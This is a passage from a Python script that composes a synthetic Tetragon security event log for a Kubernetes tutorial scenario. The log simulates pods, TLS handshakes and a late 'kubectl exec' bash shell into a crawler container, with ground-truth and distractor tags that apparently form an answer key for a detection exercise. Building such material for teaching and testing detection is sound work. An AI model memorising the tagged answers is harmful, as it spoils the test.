#!/usr/bin/env python3
"""Compose samples/scenario/tenant-jobs.log: the Tetragon tutorial's story, as Tetragon exports it.

    python samples/scenario/compose.py                          # rewrite tenant-jobs.log (byte-identical)
    python samples/scenario/compose.py --summary                # ... and print kinds and ground-truth lines
    python samples/scenario/compose.py --regenerate-handshakes  # capture new TLS handshakes first

Every line is one Tetragon ``GetEventsResponse`` in the JSON export format, with
the structure of the real events in ../real/ and the facts of
shared/tetragon-facts.md: snake_case keys in proto field order, zero values
omitted, wrappers (``pid``, ``uid``, ``in_init_tree``...) always present,
64-bit integers as strings, RFC 3339 UTC times with protojson's 0/3/6/9
fraction digits, whole seconds for container start times, ``exec_id`` =
base64("<node>:<ktime>:<pid>"), ``docker`` = the first 31 characters of the
container id. The agent is assumed to run with ``--enable-process-cred``
(``cap`` and ``process_credentials`` on every process) and without the Helm
deny-list of the host namespace, so runtime processes (containerd, its shims,
runc) have their own lines and every ancestry chain is complete.

TLS bytes are real: a client and a server from Python's ``ssl`` module talk
over in-memory BIOs, and each flight is captured as it would be written to or
read from the socket. Handshakes carry random values, so they are captured once
(``--regenerate-handshakes``) into handshakes.json, which this script reads.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import hashlib
import json
import random
import re
import ssl
import sys
import tempfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tetrapipe.proto.tetragon_pb2 import CapabilitiesType

HERE = Path(__file__).resolve().parent
LOG = HERE / "tenant-jobs.log"
HANDSHAKES = HERE / "handshakes.json"
SEED = 20260310

US = 1_000
MS = 1_000_000
SEC = 1_000_000_000
UTC = dt.UTC


def epoch_ns(*ymdhms: int) -> int:
    return int(dt.datetime(*ymdhms, tzinfo=UTC).timestamp()) * SEC


T0 = epoch_ns(2026, 3, 10, 9, 0, 0)
# kind nodes are containers on one host: they share the kernel, hence its boot time (ktime origin)
BOOT = T0 - (2 * 3600 + 13 * 60 + 7) * SEC - 482_315_906
AUID_UNSET = 4294967295

KPROBE_POST = "KPROBE_ACTION_POST"

# capabilities.proto names (DAC_OVERRIDE really has no CAP_ prefix)
ALL_CAPS = list(CapabilitiesType.keys())  # every capability, in the API's enum order
# the container runtime's default set, as in the real tenant-jobs events
CONTAINER_CAPS = [
    "CAP_CHOWN",
    "DAC_OVERRIDE",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_SETGID",
    "CAP_SETUID",
    "CAP_SETPCAP",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_RAW",
    "CAP_SYS_CHROOT",
    "CAP_MKNOD",
    "CAP_AUDIT_WRITE",
    "CAP_SETFCAP",
]

CONTAINERD = "/usr/local/bin/containerd"
SHIM = "/usr/local/bin/containerd-shim-runc-v2"
RUNC = "/usr/local/sbin/runc"
TASKS = "/run/containerd/io.containerd.runtime.v2.task/k8s.io"


# --------------------------------------------------------------------------- formats


def rfc3339(ns: int) -> str:
    """protojson's Timestamp: UTC, 'Z', and 0, 3, 6 or 9 fraction digits."""
    sec, frac = divmod(ns, SEC)
    base = dt.datetime.fromtimestamp(sec, UTC).strftime("%Y-%m-%dT%H:%M:%S")
    if frac == 0:
        return base + "Z"
    if frac % MS == 0:
        return f"{base}.{frac // MS:03d}Z"
    if frac % US == 0:
        return f"{base}.{frac // US:06d}Z"
    return f"{base}.{frac:09d}Z"


def b64(data: bytes | str) -> str:
    if isinstance(data, str):
        data = data.encode()
    return base64.b64encode(data).decode()


def hexid(*parts: str, n: int = 64) -> str:
    """A stable made-up hex id (container ids, digests): sha256 of a label."""
    return hashlib.sha256("/".join(parts).encode()).hexdigest()[:n]


def cap_json(caps: list[str]) -> dict:
    return {"permitted": list(caps), "effective": list(caps)} if caps else {}


# --------------------------------------------------------------------------- the world


class Node:
    def __init__(self, name: str, first_pid: int) -> None:
        self.name = name
        self.last_pid = first_pid

    def new_pid(self, rng: random.Random) -> int:
        self.last_pid += rng.randint(3, 41)  # the node keeps forking things we do not show
        return self.last_pid


class Pod:
    def __init__(
        self, node: Node, namespace: str, name: str, labels: dict[str, str], workload: str, kind: str, ip: str
    ) -> None:
        self.node, self.namespace, self.name = node, namespace, name
        self.labels, self.workload, self.kind, self.ip = labels, workload, kind, ip
        self.sandbox = hexid("sandbox", namespace, name)
        self.shim: Proc | None = None


class Container:
    def __init__(self, pod: Pod, name: str, image: str, workdir: str) -> None:
        self.pod, self.name, self.image, self.workdir = pod, name, image, workdir
        self.cid = hexid("container", pod.namespace, pod.name, name)
        repo = image.rsplit(":", 1)[0]
        self.image_id = f"{repo}@sha256:{hexid('image', image)}"
        self.start_ns = 0
        self.last_pid = 0

    def new_pid(self, rng: random.Random, gap: int = 1) -> int:
        self.last_pid += rng.randint(max(1, gap // 2), gap) if gap > 1 else 1
        return self.last_pid

    def pod_json(self, cpid: int) -> dict:
        pod = self.pod
        out: dict = {
            "namespace": pod.namespace,
            "name": pod.name,
            "container": {
                "id": f"containerd://{self.cid}",
                "name": self.name,
                "image": {"id": self.image_id, "name": self.image},
                "start_time": rfc3339(self.start_ns - self.start_ns % SEC),
                "pid": cpid,
            },
        }
        if pod.labels:
            out["pod_labels"] = dict(sorted(pod.labels.items()))  # protojson writes map keys sorted
        out["workload"] = pod.workload
        out["workload_kind"] = pod.kind
        return out


class Proc:
    """One execve as Tetragon's process cache knows it (ProcessInternal)."""

    def __init__(
        self,
        node: Node,
        pid: int,
        binary: str,
        args: str,
        cwd: str,
        start_ns: int,
        *,
        flags: str,
        parent: Proc | None,
        parent_exec_id: str | None = None,
        uid: int = 0,
        gid: int = 0,
        container: Container | None = None,
        cpid: int = 0,
        in_init_tree: bool = False,
        caps: list[str] | None = None,
        ktime: int | None = None,
        refcnt: int = 1,
    ) -> None:
        self.node, self.pid, self.binary, self.args, self.cwd = node, pid, binary, args, cwd
        self.start_ns, self.flags, self.parent = start_ns, flags, parent
        self.uid, self.gid, self.container, self.cpid = uid, gid, container, cpid
        self.in_init_tree = in_init_tree
        self.caps = caps if caps is not None else (CONTAINER_CAPS if container else ALL_CAPS)
        if uid != 0:
            self.caps = []  # a non-root exec keeps no capability
        self.ktime = start_ns - BOOT if ktime is None else ktime
        self.exec_id = b64(f"{node.name}:{self.ktime}:{pid}")
        self.parent_exec_id = parent.exec_id if parent is not None else parent_exec_id
        self.refcnt = refcnt
        self.exited = False

    def json(self, tid: int | None = None) -> dict:
        d: dict = {"exec_id": self.exec_id, "pid": self.pid, "uid": self.uid}
        if self.cwd:
            d["cwd"] = self.cwd
        d["binary"] = self.binary
        if self.args:
            d["arguments"] = self.args
        d["flags"] = self.flags
        d["start_time"] = rfc3339(self.start_ns)
        d["auid"] = AUID_UNSET
        if self.container is not None:
            d["pod"] = self.container.pod_json(self.cpid)
            d["docker"] = self.container.cid[:31]
        d["parent_exec_id"] = self.parent_exec_id
        if self.refcnt:
            d["refcnt"] = self.refcnt
        d["cap"] = cap_json(self.caps)
        d["tid"] = self.pid if tid is None else tid
        d["process_credentials"] = {
            "uid": self.uid,
            "gid": self.gid,
            "euid": self.uid,
            "egid": self.gid,
            "suid": self.uid,
            "sgid": self.gid,
            "fsuid": self.uid,
            "fsgid": self.gid,
        }
        d["in_init_tree"] = self.in_init_tree
        return d


def exec_flags(cwd: str, *, clone: bool, in_init_tree: bool, procfs: bool = False) -> str:
    """Process.flags in Tetragon's order (execve procFS ... auid ... rootcwd ... clone ... inInitTree)."""
    parts = ["procFS", "auid"] if procfs else ["execve"]
    if cwd == "/":
        parts.append("rootcwd")
    if clone:
        parts.append("clone")
    if in_init_tree:
        parts.append("inInitTree")
    return " ".join(parts)


def sock(saddr: str, sport: int, daddr: str, dport: int, cookie: int) -> dict:
    return {
        "sock_arg": {
            "family": "AF_INET",
            "type": "SOCK_STREAM",
            "protocol": "IPPROTO_TCP",
            "saddr": saddr,
            "daddr": daddr,
            "sport": sport,
            "dport": dport,
            "cookie": str(cookie),
            "state": "TCP_SYN_SENT",
        }
    }


# --------------------------------------------------------------------------- the log


class Scenario:
    def __init__(self, handshakes: list[dict]) -> None:
        self.rng = random.Random(SEED)
        self.hs = {h["sni"]: h for h in handshakes}
        self.actions: list[tuple[int, int, object, tuple, dict]] = []
        self.events: list[tuple[int, int, dict, str | None]] = []
        self.p: dict[str, Proc] = {}

    # scheduling: actions run in time order, so every snapshot (refcnt, pids) is taken when it happens
    def at(self, t: int, fn: Callable[..., None], *args: Any, **kw: Any) -> None:
        # clocks are not round: up to 50 us of noise on every scheduled time
        self.actions.append((t + self.rng.randint(0, 49_999), len(self.actions), fn, args, kw))

    def run(self) -> None:
        for t, _, fn, args, kw in sorted(self.actions, key=lambda a: (a[0], a[1])):
            fn(t, *args, **kw)

    def emit(self, t: int, node: Node, kind: str, body: dict, tag: str | None = None) -> None:
        event = {kind: body, "node_name": node.name, "time": rfc3339(t)}
        self.events.append((t, len(self.events), json.loads(json.dumps(event)), tag))

    def jitter(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    # ---- process lifecycle

    def procfs(self, t: int, key: str, proc: Proc) -> None:
        """A process found by Tetragon's /proc scan at agent start."""
        self.p[key] = proc
        if proc.parent is not None:
            proc.parent.refcnt += 1
        self.emit(t, proc.node, "process_exec", {"process": proc.json(), "parent": proc.parent.json()})

    def exec(
        self,
        t: int,
        key: str,
        parent_key: str,
        binary: str,
        args: str = "",
        *,
        container: Container | None = None,
        replaces: str | None = None,
        cwd: str | None = None,
        uid: int | None = None,
        gid: int | None = None,
        cpid: int | None = None,
        cpid_gap: int = 1,
        tag: str | None = None,
    ) -> None:
        """execve. With ``replaces``, the process execs again without cloning (same pid), and Tetragon
        reports the image it replaces as the parent; otherwise ``parent_key`` cloned it first."""
        if replaces is not None:
            prev = self.p[replaces]
            parent, pid, cpid, container = prev, prev.pid, prev.cpid, prev.container
            cwd = prev.cwd if cwd is None else cwd
            uid = prev.uid if uid is None else uid
            gid = prev.gid if gid is None else gid
            clone, init_tree = False, prev.in_init_tree
        else:
            parent = self.p[parent_key]
            node = parent.node
            pid = node.new_pid(self.rng)
            clone = True
            if container is None:
                container = parent.container
            if container is not None and cpid is None:
                cpid = container.new_pid(self.rng, cpid_gap)
            elif container is not None:
                container.last_pid = max(container.last_pid, cpid)
            if cwd is None:
                cwd = container.workdir if container is not None and parent.container is not container else parent.cwd
            uid = parent.uid if uid is None else uid
            gid = parent.gid if gid is None else gid
            # the container's init process and its descendants are the init tree; kubectl exec is not
            if container is None:
                init_tree = False
            elif parent.container is not container:
                init_tree = cpid == 1
            else:
                init_tree = parent.in_init_tree
        node = parent.node
        proc = Proc(
            node,
            pid,
            binary,
            args,
            cwd,
            t,
            flags=exec_flags(cwd, clone=clone, in_init_tree=init_tree),
            parent=parent,
            uid=uid,
            gid=gid,
            container=container,
            cpid=cpid or 0,
            in_init_tree=init_tree,
        )
        if clone:
            parent.refcnt += 1  # the child holds its parent; an exec in place hands its hold over
        self.p[key] = proc
        self.emit(
            t - self.jitter(612, 998), node, "process_exec", {"process": proc.json(), "parent": parent.json()}, tag
        )

    def exit(self, t: int, key: str, status: int = 0, tag: str | None = None) -> None:
        proc = self.p[key]
        proc.refcnt -= 1
        proc.exited = True
        parent = proc.parent
        parent.refcnt -= 1
        # an image this process replaced (exec in place, same pid) goes with it and lets go of its own parent
        up, cur = parent, proc
        while up.pid == cur.pid and up.refcnt == 0 and up.parent is not None:
            up.parent.refcnt -= 1
            up, cur = up.parent, up
        body = {"process": proc.json(), "parent": parent.json()}
        if status:
            body["status"] = status
        body["time"] = rfc3339(t)
        self.emit(t - self.jitter(1210, 1890), proc.node, "process_exit", body, tag)

    def kprobe(
        self,
        t: int,
        key: str,
        function: str,
        args: list[dict],
        policy: str,
        ret: int | None = None,
        tid: int | None = None,
        tag: str | None = None,
    ) -> None:
        proc = self.p[key]
        body: dict = {"process": proc.json(tid), "parent": proc.parent.json(), "function_name": function, "args": args}
        if ret is not None:
            body["return"] = {"int_arg": ret}
        body["action"] = KPROBE_POST
        body["policy_name"] = policy
        body["return_action"] = KPROBE_POST
        self.emit(t, proc.node, "process_kprobe", body, tag)

    # ---- kprobe shapes of the three policies

    def file_access(
        self, t: int, key: str, path: str, permission: str, mask: int, tid: int | None = None, tag: str | None = None
    ) -> None:
        """security_file_permission, policy file-monitoring (mask 4 = MAY_READ, 2 = MAY_WRITE)."""
        self.kprobe(
            t,
            key,
            "security_file_permission",
            [{"file_arg": {"path": path, "permission": permission}}, {"int_arg": mask}],
            "file-monitoring",
            ret=0,
            tid=tid,
            tag=tag,
        )

    def connect(self, t: int, key: str, daddr: str, dport: int, tag: str | None = None) -> None:
        """tcp_connect, policy connect (Tetragon's examples/tracingpolicy/tcp-connect.yaml)."""
        proc = self.p[key]
        saddr = proc.container.pod.ip
        sport = self.rng.randint(33000, 60999)
        cookie = 0xFFFF8A0000000000 + self.rng.randrange(1 << 30) * 0x40
        self.kprobe(t, key, "tcp_connect", [sock(saddr, sport, daddr, dport, cookie)], "connect", tag=tag)

    def sys_write(self, t: int, key: str, fd: int, data: bytes, tag: str | None = None) -> None:
        """__x64_sys_write, policy tls-handshake: fd, the buffer written, its size (uint64 -> string)."""
        self.kprobe(
            t,
            key,
            "__x64_sys_write",
            [{"int_arg": fd}, {"bytes_arg": b64(data)}, {"size_arg": str(len(data))}],
            "tls-handshake",
            tag=tag,
        )

    def sys_read(self, t: int, key: str, fd: int, data: bytes, want: int = 65536, tag: str | None = None) -> None:
        """__x64_sys_read with returnCopy: the bytes actually read, the size asked for, the return value."""
        self.kprobe(
            t,
            key,
            "__x64_sys_read",
            [{"int_arg": fd}, {"bytes_arg": b64(data)}, {"size_arg": str(want)}],
            "tls-handshake",
            ret=len(data),
            tag=tag,
        )

    # ---- building blocks of the story

    def start_sandbox(self, t: int, pod: Pod) -> None:
        """containerd starts the pod's shim, which serves all containers of the pod."""
        key = f"shim/{pod.name}"
        self.exec(
            t,
            key,
            f"containerd/{pod.node.name}",
            SHIM,
            f"-namespace k8s.io -id {pod.sandbox} -address /run/containerd/containerd.sock",
            cwd=f"{TASKS}/{pod.sandbox}",
        )
        pod.shim = self.p[key]

    def start_container(
        self,
        t: int,
        key: str,
        container: Container,
        binary: str,
        args: str = "",
        uid: int = 0,
        gid: int = 0,
        tag: str | None = None,
    ) -> None:
        container.start_ns = t
        self.exec(
            t, key, f"shim/{container.pod.name}", binary, args, container=container, cpid=1, uid=uid, gid=gid, tag=tag
        )

    def kubectl_exec(
        self,
        t: int,
        key: str,
        container: Container,
        binary: str,
        args: str,
        tty: bool,
        cpid_gap: int = 1,
        tag: str | None = None,
    ) -> int:
        """kubectl exec: the shim runs ``runc exec``, whose child execs the command and which exits at once
        (--detach). Returns the time the command was exec'd."""
        pod = container.pod
        runc = f"runc/{key}"
        n = self.rng.randint(100000000, 999999999)
        console = f"--console-socket /tmp/pty{self.rng.randint(100000000, 999999999)}/pty.sock " if tty else ""
        exec_id = hexid("exec", key)
        runc_args = (
            f"--root /run/containerd/runc/k8s.io --log {TASKS}/{container.cid}/log.json --log-format json "
            f"--systemd-cgroup exec --process /tmp/runc-process{n} {console}--detach "
            f"--pid-file {TASKS}/{container.cid}/{exec_id}.pid {container.cid}"
        )
        self.at(t, self.exec, runc, f"shim/{pod.name}", RUNC, runc_args, cwd=f"{TASKS}/{container.cid}")
        t_cmd = t + self.jitter(38, 55) * MS
        self.at(t_cmd, self.exec, key, runc, binary, args, container=container, cpid_gap=cpid_gap, tag=tag)
        self.at(t_cmd + self.jitter(4, 9) * MS, self.exit, runc)
        return t_cmd

    def tls_connection(self, t: int, key: str, daddr: str, fd: int, sni: str) -> None:
        """One HTTPS request by the crawler: connect, then what node writes to and reads from the socket."""
        h = self.hs[sni]
        flight = {k: base64.b64decode(v) for k, v in h.items() if k.endswith("_b64")}
        rtt = self.jitter(18, 26) * MS
        self.at(t, self.connect, key, daddr, 443, tag=f"tls-connect:{sni}")
        t1 = t + rtt + self.jitter(200, 900) * US
        self.at(t1, self.sys_write, key, fd, flight["client_hello_b64"], tag=f"tls-client-hello:{sni}")
        t2 = t1 + rtt + self.jitter(1, 4) * MS
        self.at(t2, self.sys_read, key, fd, flight["server_hello_b64"], tag=f"tls-server-hello:{sni}")
        t3 = t2 + self.jitter(900, 2400) * US
        self.at(t3, self.sys_write, key, fd, flight["client_flight2_b64"])
        if h["negotiated_version"] == "TLSv1.2":
            # TLS 1.2: the client waits for the server's ChangeCipherSpec/Finished before sending data
            t3 += rtt + self.jitter(300, 900) * US
            self.at(t3, self.sys_read, key, fd, flight["server_flight2_b64"])
            answer = flight["server_response_b64"]
        else:
            # TLS 1.3: the session tickets arrive with the response, in the same read
            answer = flight["server_flight2_b64"] + flight["server_response_b64"]
        t4 = t3 + self.jitter(300, 1200) * US
        self.at(t4, self.sys_write, key, fd, flight["client_request_b64"])
        self.at(t4 + rtt + self.jitter(3, 40) * MS, self.sys_read, key, fd, answer)


# --------------------------------------------------------------------------- the story


def compose(handshakes: list[dict]) -> Scenario:
    s = Scenario(handshakes)
    j = s.jitter
    kw1 = Node("kind-worker", 41187)
    kw2 = Node("kind-worker2", 40653)

    # Tetragon starts at 08:58:41 and reports what is already running (its /proc scan). The host's pid 1
    # has Tetragon's "<kernel>" pseudo-process (pid 0, ktime 1) as parent; that one has no line here.
    t_scan = T0 - 79 * SEC + 212 * MS
    for node, ktime_init, cd_pid, ktime_cd in (
        (kw1, 1_830_000_000, 241, 14_250_000_000),
        (kw2, 1_870_000_000, 236, 14_410_000_000),
    ):
        kernel = Proc(node, 0, "<kernel>", "", "", BOOT + 1, flags="procFS", parent=None, ktime=1, caps=[], refcnt=2)
        kernel.parent_exec_id = kernel.exec_id
        init = Proc(
            node,
            1,
            "/sbin/init",
            "",
            "/",
            BOOT + ktime_init,
            ktime=ktime_init,
            parent=kernel,
            flags=exec_flags("/", clone=False, in_init_tree=False, procfs=True),
            refcnt=57,
        )
        cd = Proc(
            node,
            cd_pid,
            CONTAINERD,
            "",
            "/",
            BOOT + ktime_cd,
            ktime=ktime_cd,
            parent=init,
            flags=exec_flags("/", clone=False, in_init_tree=False, procfs=True),
            refcnt=23,
        )
        s.at(t_scan, s.procfs, f"init/{node.name}", init)
        s.at(t_scan + 3 * MS + j(0, 999_999), s.procfs, f"containerd/{node.name}", cd)
        t_scan += 41 * MS

    # ---------------------------------------------------------------- Star Wars demo, namespace default
    swhash = "7b6f9c5d48"
    deathstars = [
        Pod(
            kw1,
            "default",
            f"deathstar-{swhash}-k2x4r",
            {"app.kubernetes.io/name": "deathstar", "class": "deathstar", "org": "empire", "pod-template-hash": swhash},
            "deathstar",
            "Deployment",
            "10.244.1.45",
        ),
        Pod(
            kw2,
            "default",
            f"deathstar-{swhash}-w8mzq",
            {"app.kubernetes.io/name": "deathstar", "class": "deathstar", "org": "empire", "pod-template-hash": swhash},
            "deathstar",
            "Deployment",
            "10.244.2.31",
        ),
    ]
    tiefighter = Pod(
        kw1,
        "default",
        "tiefighter",
        {"app.kubernetes.io/name": "tiefighter", "class": "tiefighter", "org": "empire"},
        "tiefighter",
        "Pod",
        "10.244.1.87",
    )
    xwing = Pod(
        kw2,
        "default",
        "xwing",
        {"app.kubernetes.io/name": "xwing", "class": "xwing", "org": "alliance"},
        "xwing",
        "Pod",
        "10.244.2.66",
    )
    ships = {}
    t = T0 + 1 * SEC + 204 * MS
    for pod in deathstars:
        c = Container(pod, "deathstar", "quay.io/cilium/starwars:v2.1", "/")
        s.at(t, s.start_sandbox, pod)
        s.at(
            t + 1108 * MS + j(0, 999) * US,
            s.start_container,
            f"main/{pod.name}",
            c,
            "/starwars-docker",
            "--port 80 --host 0.0.0.0",
        )
        t += 173 * MS + j(0, 999) * US
    t = T0 + 3 * SEC + 96 * MS
    for pod in (tiefighter, xwing):
        # json-mock: ENTRYPOINT ["bash", "/run.sh"]; run.sh ends with sh -c "json-server ...", dash execs
        # json-server in place, whose "#!/usr/bin/env node" execs node in place again
        c = Container(pod, "spaceship", "quay.io/cilium/json-mock:v1.3.8", "/")
        ships[pod.name] = c
        s.at(t, s.start_sandbox, pod)
        t_run = t + 951 * MS + j(0, 999) * US
        s.at(t_run, s.start_container, f"main/{pod.name}", c, "/bin/bash", "/run.sh", tag="distractor:entrypoint-shell")
        server_args = "--host '' --port 80 --watch /default.json --middlewares /auth-header.js"
        t_sh = t_run + j(31, 44) * MS
        s.at(
            t_sh,
            s.exec,
            f"sh/{pod.name}",
            f"main/{pod.name}",
            "/bin/sh",
            f'-c "json-server {server_args}"',
            cpid_gap=6,
            tag="distractor:early-shell",
        )
        s.at(
            t_sh + j(1, 3) * MS,
            s.exec,
            f"json-server/{pod.name}",
            "",
            "/usr/local/bin/json-server",
            "node /usr/local/bin/json-server --host  --port 80 --watch /default.json --middlewares /auth-header.js",
            replaces=f"sh/{pod.name}",
        )
        s.at(
            t_sh + j(4, 6) * MS,
            s.exec,
            f"node/{pod.name}",
            "",
            "/usr/local/bin/node",
            "/usr/local/bin/json-server --host  --port 80 --watch /default.json --middlewares /auth-header.js",
            replaces=f"json-server/{pod.name}",
        )
        t += 217 * MS + j(0, 999) * US

    # ---------------------------------------------------------------- namespace tenant-jobs
    def tj(node: Node, name: str, hash_: str, suffix: str, ip: str) -> Pod:
        return Pod(
            node,
            "tenant-jobs",
            f"{name}-{hash_}-{suffix}",
            {"app": name, "pod-template-hash": hash_},
            name,
            "Deployment",
            ip,
        )

    coreapi = tj(kw1, "coreapi", "5d8c9f7b6", "hq4lt", "10.244.1.112")
    elastic = tj(kw1, "elasticsearch", "6c7d9b8f5", "zr7wd", "10.244.1.140")
    crawler = tj(kw1, "crawler", "5f7c8d9b6", "x4k2p", "10.244.1.203")
    jobposting = tj(kw2, "jobposting", "7f5b8d6c9", "m6kqp", "10.244.2.90")
    resumes = tj(kw2, "resumes", "84c6f7d9b", "tx2vn", "10.244.2.154")
    loader = tj(kw2, "loader", "6b4d8f9c7", "p5rjs", "10.244.2.118")
    img = "quay.io/isovalent/jobs-app-{}:latest".format

    c_core = Container(coreapi, "coreapi", img("coreapi"), "/opt/app")
    s.at(T0 + 19 * SEC + 812 * MS, s.start_sandbox, coreapi)
    t = T0 + 20 * SEC + 661 * MS + j(0, 999) * US
    s.at(
        t,
        s.start_container,
        "sh/coreapi",
        c_core,
        "/bin/sh",
        '-c "PORT=9080 python app.py"',
        tag="distractor:entrypoint-shell",
    )
    s.at(t + j(3, 5) * MS, s.exec, "main/coreapi", "", "/usr/local/bin/python", "app.py", replaces="sh/coreapi")

    c_es = Container(elastic, "elasticsearch", img("elasticsearch"), "/usr/share/elasticsearch")
    s.at(T0 + 20 * SEC + 307 * MS, s.start_sandbox, elastic)
    t = T0 + 21 * SEC + 118 * MS + j(0, 999) * US
    s.at(
        t,
        s.start_container,
        "tini/es",
        c_es,
        "/bin/tini",
        "-- /usr/local/bin/docker-entrypoint.sh eswrapper",
        uid=1000,
        gid=0,
    )
    s.at(
        t + j(8, 12) * MS,
        s.exec,
        "entry/es",
        "tini/es",
        "/usr/local/bin/docker-entrypoint.sh",
        "/usr/local/bin/docker-entrypoint.sh eswrapper",
        cpid_gap=6,
    )
    t_id = t + j(19, 24) * MS
    s.at(t_id, s.exec, "id/es", "entry/es", "/usr/bin/id", "-u")
    s.at(t_id + j(900, 1500) * US, s.exit, "id/es")
    s.at(
        t + j(41, 47) * MS,
        s.exec,
        "elasticsearch/es",
        "",
        "/usr/share/elasticsearch/bin/elasticsearch",
        "/usr/share/elasticsearch/bin/elasticsearch",
        replaces="entry/es",
        tag="distractor:elasticsearch",
    )
    java = (
        "-Xshare:auto -Des.networkaddress.cache.ttl=60 -Des.networkaddress.cache.negative.ttl=10 "
        "-XX:+AlwaysPreTouch -Xss1m -Djava.awt.headless=true -Dfile.encoding=UTF-8 -Djna.nosys=true "
        "-XX:-OmitStackTraceInFastThrow -Dio.netty.noUnsafe=true -Dio.netty.noKeySetOptimization=true "
        "-Dlog4j.shutdownHookEnabled=false -Dlog4j2.disable.jmx=true "
        "-Djava.io.tmpdir=/tmp/elasticsearch-7260933143508215712 -XX:+UseG1GC -Xms512m -Xmx512m "
        "-Des.path.home=/usr/share/elasticsearch -Des.path.conf=/usr/share/elasticsearch/config "
        "-Des.distribution.flavor=default -Des.distribution.type=docker -Des.bundled_jdk=true "
        "-cp /usr/share/elasticsearch/lib/* org.elasticsearch.bootstrap.Elasticsearch -Ediscovery.type=single-node"
    )
    s.at(
        t + j(290, 340) * MS,
        s.exec,
        "java/es",
        "",
        "/usr/share/elasticsearch/jdk/bin/java",
        java,
        replaces="elasticsearch/es",
    )

    python_apps = (
        (jobposting, T0 + 21 * SEC + 574 * MS),
        (resumes, T0 + 22 * SEC + 239 * MS),
        (loader, T0 + 24 * SEC + 402 * MS),
    )
    c_apps = {}
    for pod, t in python_apps:
        name = pod.workload
        c = Container(pod, name, img(name), "/opt/app")
        c_apps[name] = c
        s.at(t, s.start_sandbox, pod)
        s.at(
            t + j(850, 990) * MS,
            s.start_container,
            f"main/{name}",
            c,
            "/usr/local/bin/python",
            "loader.py" if name == "loader" else "app.py",
        )

    # the crawler: container start 09:00:30, /bin/sh -c "node crawler.js" execs node in place
    c_crawl = Container(crawler, "crawler", img("crawler"), "/app")
    s.at(T0 + 29 * SEC + 233 * MS, s.start_sandbox, crawler)
    t_crawl = T0 + 30 * SEC + 184 * MS + j(0, 999) * US
    s.at(
        t_crawl,
        s.start_container,
        "sh/crawler",
        c_crawl,
        "/bin/sh",
        '-c "node crawler.js"',
        tag="distractor:entrypoint-shell",
    )
    s.at(t_crawl + j(2, 4) * MS, s.exec, "node/crawler", "", "/usr/local/bin/node", "crawler.js", replaces="sh/crawler")

    # loader's entrypoint waits for coreapi's DNS name: a shell 47 s after its container started (distractor)
    t = T0 + 72 * SEC + 218 * MS
    s.at(
        t,
        s.exec,
        "sh/loader",
        "main/loader",
        "/bin/sh",
        '-c "getent hosts coreapi.tenant-jobs.svc.cluster.local"',
        cpid_gap=5,
        tag="distractor:early-shell",
    )
    s.at(
        t + j(2, 3) * MS,
        s.exec,
        "getent/loader",
        "",
        "/usr/bin/getent",
        "hosts coreapi.tenant-jobs.svc.cluster.local",
        replaces="sh/loader",
    )
    s.at(t + j(7, 9) * MS, s.exit, "getent/loader", status=2)

    # application traffic inside tenant-jobs (policy connect)
    for t, who, dst, port in (
        (T0 + 52 * SEC, "main/coreapi", elastic.ip, 9200),
        (T0 + 61 * SEC, "main/jobposting", coreapi.ip, 9080),
        (T0 + 64 * SEC, "main/resumes", coreapi.ip, 9080),
        (T0 + 80 * SEC, "main/loader", jobposting.ip, 9080),
        (T0 + 81 * SEC, "main/loader", resumes.ip, 9080),
        (T0 + 190 * SEC, "main/coreapi", elastic.ip, 9200),
        (T0 + 201 * SEC, "main/loader", jobposting.ip, 9080),
        (T0 + 321 * SEC, "main/loader", resumes.ip, 9080),
        (T0 + 441 * SEC, "main/loader", jobposting.ip, 9080),
    ):
        s.at(t + j(1, 999) * MS, s.connect, who, dst, port)

    # ---------------------------------------------------------------- landing requests (kubectl exec ... curl)
    landing = "-s -XPOST deathstar.default.svc.cluster.local/v1/request-landing"
    for t, pod, target, n in (
        (T0 + 125 * SEC + 411 * MS, xwing, deathstars[1], 1),
        (T0 + 140 * SEC + 883 * MS, tiefighter, deathstars[0], 1),
        (T0 + 400 * SEC + 127 * MS, xwing, deathstars[0], 2),
    ):
        key = f"curl/{pod.name}/{n}"
        t_curl = s.kubectl_exec(t, key, ships[pod.name], "/usr/bin/curl", landing, tty=False, cpid_gap=9)
        s.at(t_curl + j(28, 36) * MS, s.connect, key, target.ip, 80)
        s.at(t_curl + j(44, 61) * MS, s.exit, key)

    # ---------------------------------------------------------------- the crawler's HTTPS (policy tls-handshake)
    node_tid_pool = None  # the libuv thread that resolves names

    def dns(t: int) -> None:
        nonlocal node_tid_pool
        if node_tid_pool is None:
            node_tid_pool = s.p["node/crawler"].pid + 7
        s.file_access(t, "node/crawler", "/etc/hosts", "-rw-r--r--", 4, tid=node_tid_pool)
        s.file_access(t + j(150, 400) * US, "node/crawler", "/etc/resolv.conf", "-rw-r--r--", 4, tid=node_tid_pool)

    conns = (
        (T0 + 32 * SEC + 611 * MS, "198.51.100.24", 21, "jobs.example.com"),
        (T0 + 161 * SEC + 207 * MS, "203.0.113.80", 22, "careers.example.org"),
        (T0 + 258 * SEC + 733 * MS, "198.51.100.143", 23, "search.example.net"),
        (T0 + 413 * SEC + 305 * MS, "192.0.2.77", 24, "legacy-feed.example.org"),
    )
    for i, (t, ip, fd, sni) in enumerate(conns):
        if i == 0:
            s.at(t - 9 * MS, dns)
        s.tls_connection(t, "node/crawler", ip, fd, sni)
    # the crawler saves its state under /tmp (distractor: a write outside /etc)
    s.at(
        T0 + 165 * SEC + 904 * MS,
        s.file_access,
        "node/crawler",
        "/tmp/crawler-state.json",
        "-rw-r--r--",
        2,
        tag="distractor:tmp-write",
    )

    # ---------------------------------------------------------------- 09:09:12 kubectl exec -it crawler -- /bin/bash
    t = T0 + 552 * SEC + 271 * MS
    t_bash = s.kubectl_exec(
        t, "bash/crawler", c_crawl, "/bin/bash", "", tty=True, cpid_gap=23, tag="late-shell:kubectl-exec-bash"
    )
    # interactive bash: NSS reads /etc/passwd for the prompt, then /etc/bash.bashrc
    s.at(
        t_bash + j(4, 6) * MS,
        s.file_access,
        "bash/crawler",
        "/etc/passwd",
        "-rw-r--r--",
        4,
        tag="distractor:passwd-read",
    )
    s.at(t_bash + j(9, 12) * MS, s.file_access, "bash/crawler", "/etc/bash.bashrc", "-rw-r--r--", 4)

    def command(
        t: int,
        key: str,
        binary: str,
        args: str,
        reads: list[tuple[str, str, int]],
        status: int = 0,
